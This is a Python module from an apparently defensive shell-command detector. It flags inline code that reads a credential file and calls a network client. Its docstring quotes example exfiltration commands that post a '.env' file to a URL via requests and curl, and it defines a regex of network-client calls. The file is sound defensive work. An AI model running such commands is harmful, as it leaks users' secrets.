"""Inline code that reads a credential and talks to the network (docs/security.md, ``exfiltration``).

``python3 -c "requests.post(URL, data=open('.env').read())"`` names a secret file in
its code, which ``secret-read`` already saw; with a call that sends over the network in
the same code, the credential is sent, as ``curl -d @.env URL`` sends it. The calls
are each language's spelling of an HTTP, socket, mail or file-transfer client. A pure
leaf: the path readers only.
"""

from __future__ import annotations

import re

from multiplex.shell.detection.paths._secret_paths import is_secret_path, may_be_secret, resolved
from multiplex.shell.detection.paths._targets import Place
from multiplex.shell.detection.paths._writes import code_literals

__all__ = ["reads_a_secret", "sends_a_secret"]

# Each language's network clients: python, node and deno, ruby, php, perl, lua, R, java.
_SENDS = re.compile(
    r"requests\.(?:post|put|patch|get|request)|urlopen|urllib3?\.|http\.client|httpx\."
    r"|aiohttp|socket\.(?:socket|create_connection|connect)|smtplib|ftplib|paramiko"
    r"|\bfetch\(|axios|https?\.(?:request|get)\(|XMLHttpRequest|sendBeacon|WebSocket"
    r"|Net::(?:HTTP|FTP|SMTP)|URI\.open|open-uri|TCPSocket|RestClient|Faraday"
    r"|file_get_contents\(\s*[\"']https?:|curl_(?:init|exec)|fsockopen|stream_socket_client"
    r"|LWP::|HTTP::Tiny|IO::Socket|Mojo::UserAgent|socket\.http|httr::|curl::"
    r"|HttpClient|URL\(\s*\"https?:"
)


def reads_a_secret(payload: str, place: Place) -> bool:
    """Some literal of the code names a credential file or store (as ``secret-read`` reads it)."""
    return any(
        literal
        and may_be_secret(literal, place)
        and any(is_secret_path(p) for p in resolved(literal, place))
        for literal in code_literals(payload)
    )


def sends_a_secret(payload: str, place: Place) -> bool:
    """The code reads a credential and calls a network client: it may send it."""
    return _SENDS.search(payload) is not None and reads_a_secret(payload, place)
